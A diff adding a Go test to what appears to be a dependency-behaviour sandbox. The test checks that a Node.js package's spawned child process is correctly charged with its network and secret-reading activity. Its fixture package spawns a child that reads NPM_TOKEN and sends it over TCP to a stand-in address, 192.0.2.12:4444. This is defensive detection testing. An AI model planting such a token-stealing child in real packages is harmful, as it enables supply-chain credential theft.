@@ -123,3 +123,39 @@ func TestPythonChildAttribution(t *testing.T) {
 		}
 	}
 }
+
+// TestNodeEvalChildAttribution is the same for Node.js, in the real
+// sandbox: a package's `node -e` child, started when the handler calls the
+// package, looks a name up and sends a canary; the child's hook names
+// nobody (its code is no file of the bundle), the process tree names the
+// package, and the function is charged with none of it. (The child's
+// environment read itself is not recorded: the Node.js hook skips `[eval]`
+// frames, the scripts depbox's loaders run as.)
+func TestNodeEvalChildAttribution(t *testing.T) {
+	child := "const v = process.env.NPM_TOKEN; require('dns').lookup('node.kid.invalid', () => {" +
+		" const s = require('net').connect(4444, '192.0.2.12', () => s.end('v=' + v)); s.on('error', () => {}); });"
+	dir := t.TempDir()
+	writeBundle(t, dir, map[string]string{
+		"package.json":                     `{"name":"fn","version":"1.0.0","dependencies":{"kidjs":"1.0.0"}}`,
+		"index.js":                         "const kid = require('kidjs');\nexports.handler = async () => kid.work();\n",
+		"node_modules/kidjs/package.json":  `{"name":"kidjs","version":"1.0.0"}`,
+		"node_modules/kidjs/index.js": "// TEST FIXTURE: runs only inside depbox's sandbox.\n" +
+			"const { execFileSync } = require('child_process');\n" +
+			"exports.work = () => { execFileSync(process.execPath, ['-e', " + fmt.Sprintf("%q", child) + "], { timeout: 10000 }); return 1; };\n",
+	})
+	p := run(t, invokeOptions(t, dir))
+	b := phaseOf(t, p, "node_modules/kidjs", profile.PhaseInvoke)
+	if !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == "node.kid.invalid" }) {
+		t.Errorf("kidjs: the child's lookup is not among %+v", b.DNS)
+	}
+	if !hasExfil(b, "NPM_TOKEN", "network", "192.0.2.12:4444", "raw") {
+		t.Errorf("kidjs: NPM_TOKEN sent to 192.0.2.12:4444 is not its exfiltration: %+v", b.Exfiltration)
+	}
+	app := p.App.Phases[profile.PhaseInvoke]
+	if len(app.Exfiltration) > 0 || len(app.Network) > 0 || slices.Contains(app.Env, "NPM_TOKEN") {
+		t.Errorf("the function is charged with its dependency's child: %+v", app)
+	}
+	if u := app.Unattributed; u != nil && (len(u.Network) > 0 || len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
+		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
+	}
+}
